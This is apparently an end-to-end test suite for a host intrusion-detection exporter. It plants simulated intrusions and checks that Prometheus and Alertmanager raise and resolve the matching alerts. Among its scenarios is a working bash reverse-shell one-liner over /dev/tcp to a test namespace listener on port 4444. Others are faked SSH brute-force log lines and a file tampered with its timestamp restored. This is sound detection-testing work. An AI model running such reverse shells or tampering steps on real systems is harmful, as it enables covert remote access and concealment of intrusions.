import { appendFileSync, copyFileSync, mkdtempSync, readlinkSync, rmSync, statSync, unlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempDir } from '../helpers/cli.js';
import { eventually } from '../helpers/eventually.js';
import { outputOf, remoteHost } from '../helpers/netns.js';
import { freePort } from '../helpers/monitoring-stack.js';
import { spawnOwned, stopProcess, waitForOutput } from '../helpers/processes.js';
import { startStack, testHost, type Stack } from './stack.js';

/**
 * From an intrusion on the host to a page in Alertmanager: the exporter, a real Prometheus loading
 * rules/ and a real Alertmanager with the shipped routing, on loopback, sharing one stack. Each
 * scenario plants its cause, waits for its alert at the webhook, removes the cause and leaves the
 * resolution to be awaited at the end, so slow resolutions overlap. Times from planting to the
 * webhook are printed at the end.
 */
const timings: Array<[string, number]> = [];
const resolutions: Array<{ name: string; wait: Promise<unknown> }> = [];

function syslogTime(date = new Date()): string {
  const month = date.toLocaleString('en-US', { month: 'short', timeZone: 'UTC' });
  return `${month} ${String(date.getUTCDate()).padStart(2, ' ')} ${date.toISOString().slice(11, 19)}`;
}

describe('end to end: intrusion to page', () => {
  let stack: Stack;
  let authLog: string;
  let watchedFile: string;
  let instance: string;

  beforeAll(async () => {
    const host = testHost();
    authLog = host.authLog;
    watchedFile = host.watchedFile;
    // Scrapes every 5 s with a 5 s timeout: on a loaded machine a scrape can pass 1 s, and a failed
    // scrape makes every series of the target stale, which starts an alert's `for:` over (the
    // listener's 30 s never completed at 1 s under a load average of 8).
    stack = await startStack(host.exporterArgs(['processes', 'network', 'integrity', 'auth']), { spare: true, scrapeInterval: '5s' });
    instance = `127.0.0.1:${stack.exporterPort}`;
    await eventually(async () => (await stack.prometheus.query('up{job="hostguard"} == 1')).length === 2, {
      intervalMs: 250,
      timeoutMs: 60_000,
      what: 'Prometheus scraping both exporters',
    });
  }, 120_000);

  afterAll(async () => {
    await stack?.stop();
    if (timings.length)
      console.log(`\nplant → webhook:\n${timings.map(([name, ms]) => `  ${name}: ${(ms / 1000).toFixed(1)} s`).join('\n')}`);
  });

  function expectResolved(name: string, alertname: string, labels: Record<string, string>, since: number, timeoutMs: number): void {
    const wait = stack.webhook.waitFor(
      (a) => a.status === 'resolved' && a.labels.alertname === alertname && Object.entries(labels).every(([k, v]) => a.labels[k] === v),
      timeoutMs,
      since,
    );
    wait.catch(() => {}); // awaited in the last test
    resolutions.push({ name, wait });
  }

  // The three alerts with a `for:` (30 s, 1 m, 1 m) are planted at once and awaited side by side;
  // the scenarios without one follow, one at a time.
  it.concurrent(
    'a listener on an unexpected port: HostGuardUnexpectedListener tickets',
    async () => {
      const port = await freePort();
      const planted = Date.now();
      const listener = spawnOwned(process.execPath, [
        '-e',
        `require('net').createServer().listen(${port}, '127.0.0.1', () => console.log('up'))`,
      ]);
      await waitForOutput(listener, /up/);
      const firing = await stack.webhook.waitFor(
        (a) => a.status === 'firing' && a.labels.alertname === 'HostGuardUnexpectedListener' && a.labels.port === String(port),
        90_000,
        planted,
      );
      timings.push(['unexpected listener (for: 30s)', firing.receivedAt - planted]);
      expect(firing.path).toBe('/ticket');
      expect(firing.labels).toMatchObject({
        severity: 'warning',
        collector: 'network',
        instance,
        protocol: 'tcp',
        address: 'loopback',
        exe: process.execPath,
        reason: 'not_allowed',
      });
      expect(firing.annotations.description).toContain(`listens on tcp port ${port}`);
      const removed = Date.now();
      await stopProcess(listener);
      expectResolved('unexpected listener', 'HostGuardUnexpectedListener', { port: String(port) }, removed, 120_000);
    },
    120_000,
  );

  it.concurrent(
    'a burst of SSH authentication failures appended to the auth log: HostGuardAuthBruteForce tickets',
    async () => {
      const planted = Date.now();
      const lines = Array.from(
        { length: 60 },
        (_, i) =>
          `${syslogTime()} web-1 sshd[${40000 + i}]: Failed password for invalid user admin${i % 5} from 203.0.113.${i % 50} port ${50000 + i} ssh2`,
      );
      appendFileSync(authLog, lines.join('\n') + '\n');
      const firing = await stack.webhook.waitFor(
        (a) => a.status === 'firing' && a.labels.alertname === 'HostGuardAuthBruteForce',
        150_000,
        planted,
      );
      timings.push(['auth failure burst (for: 1m)', firing.receivedAt - planted]);
      expect(firing.path).toBe('/ticket');
      expect(firing.labels).toMatchObject({ severity: 'warning', collector: 'auth', service: 'sshd', instance });
      expect(firing.annotations.summary).toBe(`Brute force against sshd on ${instance}`);
      // Not awaited here: the alert resolves once the 2-minute rate window has drained, two minutes
      // after the burst, which rules/tests/hostguard-auth.test.yml proves with promtool; the other
      // alerts prove the resolved notifications of this chain.
    },
    180_000,
  );

  it.concurrent(
    'an exporter killed: HostGuardExporterDown pages, and resolves when it is back',
    async () => {
      // The spare exporter of the job: the first one keeps scraping for the tests beside this one.
      const spareInstance = `127.0.0.1:${stack.sparePort}`;
      const planted = Date.now();
      await stack.stopSpare('SIGKILL');
      const firing = await stack.webhook.waitFor(
        (a) => a.status === 'firing' && a.labels.alertname === 'HostGuardExporterDown' && a.labels.instance === spareInstance,
        120_000,
        planted,
      );
      timings.push(['exporter killed (for: 1m)', firing.receivedAt - planted]);
      expect(firing.path).toBe('/page');
      expect(firing.labels).toMatchObject({ severity: 'critical', instance: spareInstance, job: 'hostguard' });
      expect(firing.annotations.summary).toBe(`hostguard-exporter is down on ${spareInstance}`);
      expect(firing.annotations.runbook_url).toMatch(/docs\/runbooks\/HostGuardExporterDown\.md$/);
      const restarted = Date.now();
      await stack.startSpare();
      expectResolved('exporter down', 'HostGuardExporterDown', { instance: spareInstance }, restarted, 60_000);
    },
    200_000,
  );

  it('a copy of a system binary started from a temp directory: HostGuardProcessFromWritableLocation pages', async () => {
    const copy = join(tempDir('hostguard-e2e-drop-'), 'sleep');
    copyFileSync('/usr/bin/sleep', copy);
    const planted = Date.now();
    const dropped = spawnOwned(copy, ['600']);
    const firing = await stack.webhook.waitFor(
      (a) => a.status === 'firing' && a.labels.alertname === 'HostGuardProcessFromWritableLocation' && a.labels.exe === copy,
      60_000,
      planted,
    );
    timings.push(['binary run from a temp directory (for: 0)', firing.receivedAt - planted]);
    expect(firing.path).toBe('/page');
    expect(firing.labels).toMatchObject({
      severity: 'critical',
      collector: 'processes',
      instance,
      user_class: 'root',
      kind: 'writable_location',
    });
    expect(firing.annotations.description).toContain(`${copy} (root user) runs on ${instance} from a temporary or world-writable`);
    const removed = Date.now();
    await stopProcess(dropped);
    expectResolved('binary run from a temp directory', 'HostGuardProcessFromWritableLocation', { exe: copy }, removed, 60_000);
  }, 90_000);

  it('a script from /tmp run by a packaged bash: HostGuardProcessFromWritableLocation pages, naming the script', async () => {
    // The interpreter is packaged and known: what runs is the script, judged like an executable.
    const script = join(tempDir('hostguard-e2e-script-'), 'update.sh');
    // It waits on its standard input, a pipe the test holds: no `sleep` child to outlive it.
    writeFileSync(script, 'read line\n');
    const planted = Date.now();
    const shell = spawnOwned('/usr/bin/bash', [script], { stdio: ['pipe', 'pipe', 'pipe'] });
    try {
      const firing = await stack.webhook.waitFor(
        (a) => a.status === 'firing' && a.labels.alertname === 'HostGuardProcessFromWritableLocation' && a.labels.exe === script,
        60_000,
        planted,
      );
      timings.push(['script from a temp directory (for: 0)', firing.receivedAt - planted]);
      expect(firing.path).toBe('/page');
      expect(firing.labels).toMatchObject({
        severity: 'critical',
        collector: 'processes',
        instance,
        user_class: 'root',
        kind: 'writable_location',
      });
      expect(firing.annotations.description).toContain(`${script} (root user) runs on ${instance} from a temporary or world-writable`);
      const removed = Date.now();
      await stopProcess(shell);
      expectResolved('script from a temp directory', 'HostGuardProcessFromWritableLocation', { exe: script }, removed, 60_000);
    } finally {
      await stopProcess(shell);
    }
  }, 90_000);

  it('a binary deleted after it started: HostGuardDeletedExecutable pages', async () => {
    // Outside any temporary or world-writable place, so the deletion is the only sign.
    const dir = mkdtempSync('/var/lib/hostguard-e2e-');
    const binary = join(dir, 'agent');
    copyFileSync('/usr/bin/sleep', binary);
    const planted = Date.now();
    const agent = spawnOwned(binary, ['600']);
    try {
      await eventually(() => readlinkSync(`/proc/${agent.pid}/exe`) === binary, { intervalMs: 20, what: `${binary} running` });
      unlinkSync(binary);
      const firing = await stack.webhook.waitFor(
        (a) => a.status === 'firing' && a.labels.alertname === 'HostGuardDeletedExecutable' && a.labels.exe === binary,
        60_000,
        planted,
      );
      timings.push(['binary deleted after start (for: 0)', firing.receivedAt - planted]);
      expect(firing.path).toBe('/page');
      expect(firing.labels).toMatchObject({ severity: 'critical', collector: 'processes', instance, kind: 'deleted_executable' });
      const removed = Date.now();
      await stopProcess(agent);
      expectResolved('binary deleted after start', 'HostGuardDeletedExecutable', { exe: binary }, removed, 60_000);
    } finally {
      await stopProcess(agent);
      rmSync(dir, { recursive: true, force: true });
    }
  }, 90_000);

  it('a watched file changed, same size, mtime restored: HostGuardFileChanged pages', async () => {
    const original = statSync(watchedFile);
    const planted = Date.now();
    writeFileSync(watchedFile, 'listen_port=8080\nadmin=mallo\n'); // same length
    utimesSync(watchedFile, original.atime, original.mtime);
    expect(statSync(watchedFile).size).toBe(original.size);
    const firing = await stack.webhook.waitFor(
      (a) => a.status === 'firing' && a.labels.alertname === 'HostGuardFileChanged' && a.labels.path === watchedFile,
      60_000,
      planted,
    );
    timings.push(['watched file changed, mtime restored (next scan, for: 0)', firing.receivedAt - planted]);
    expect(firing.path).toBe('/page');
    expect(firing.labels).toMatchObject({
      severity: 'critical',
      collector: 'integrity',
      instance,
      kind: 'content_changed',
      attribute: 'content',
    });
    expect(firing.annotations.description).toContain('something other than dpkg changed it');
    const removed = Date.now();
    writeFileSync(watchedFile, 'listen_port=8080\nadmin=alice\n');
    expectResolved('watched file changed', 'HostGuardFileChanged', { path: watchedFile }, removed, 60_000);
  }, 90_000);

  it('a reverse shell from packaged bash to a remote host: HostGuardShellOnSocket pages', async () => {
    // The remote host is a network namespace of the test's own behind a veth pair (test/helpers/netns.ts).
    const remote = remoteHost();
    try {
      const port = 4444;
      const listener = remote.spawn('ncat', ['-l', remote.remoteAddress, String(port)], { stdio: ['pipe', 'pipe', 'pipe'] });
      const session = outputOf(listener);
      await eventually(() => remote.run('ss', ['-Htln', `sport = :${port}`]).trim() !== '', { what: 'the remote listener' });
      const planted = Date.now();
      const shell = spawnOwned('bash', ['-c', `exec bash -i >& /dev/tcp/${remote.remoteAddress}/${port} 0>&1`]);
      listener.stdin!.write('echo READY-$((6*7))\n');
      await session.waitFor(/READY-42/);
      const firing = await stack.webhook.waitFor(
        (a) => a.status === 'firing' && a.labels.alertname === 'HostGuardShellOnSocket' && a.labels.port === String(port),
        60_000,
        planted,
      );
      timings.push(['reverse shell over /dev/tcp (for: 0)', firing.receivedAt - planted]);
      expect(firing.path).toBe('/page');
      expect(firing.labels).toMatchObject({
        severity: 'critical',
        collector: 'network',
        instance,
        exe: '/usr/bin/bash',
        user_class: 'root',
        program_class: 'interpreter',
        protocol: 'tcp',
        direction: 'outgoing',
        remote_class: 'private',
      });
      expect(firing.annotations.description).toContain(`/usr/bin/bash (root user) on ${instance} has a tcp socket as its`);
      const removed = Date.now();
      await stopProcess(shell, 'SIGKILL');
      expectResolved('reverse shell', 'HostGuardShellOnSocket', { port: String(port) }, removed, 60_000);
    } finally {
      await remote.close();
    }
  }, 90_000);

  it('every alert resolves after its cause is removed', async () => {
    const outcomes = await Promise.allSettled(resolutions.map((r) => r.wait));
    const unresolved = resolutions.filter((_, i) => outcomes[i]!.status === 'rejected').map((r) => r.name);
    expect(unresolved).toEqual([]);
  }, 300_000);
});
